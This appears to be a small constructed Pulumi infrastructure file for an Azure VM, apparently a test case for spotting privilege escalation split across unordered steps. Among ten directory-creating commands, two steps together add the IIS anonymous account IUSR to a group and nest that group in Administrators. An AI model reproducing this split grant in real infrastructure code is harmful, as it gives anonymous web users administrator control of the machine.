const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

// Twelve steps without an order, of which two matter together.
const step = (name, script) => new compute.VirtualMachineRunCommandByVirtualMachine(name, { resourceGroupName: "rg", vmName: "vm-1", source: { script } });
for (let i = 0; i < 10; i++) step(`step-${i}`, `New-Item -ItemType Directory C:\\data\\${i} -Force`);
step("fill", "net localgroup ops /add\nnet localgroup ops IUSR /add");
step("nest", "net localgroup ops /add\nnet localgroup Administrators ops /add");
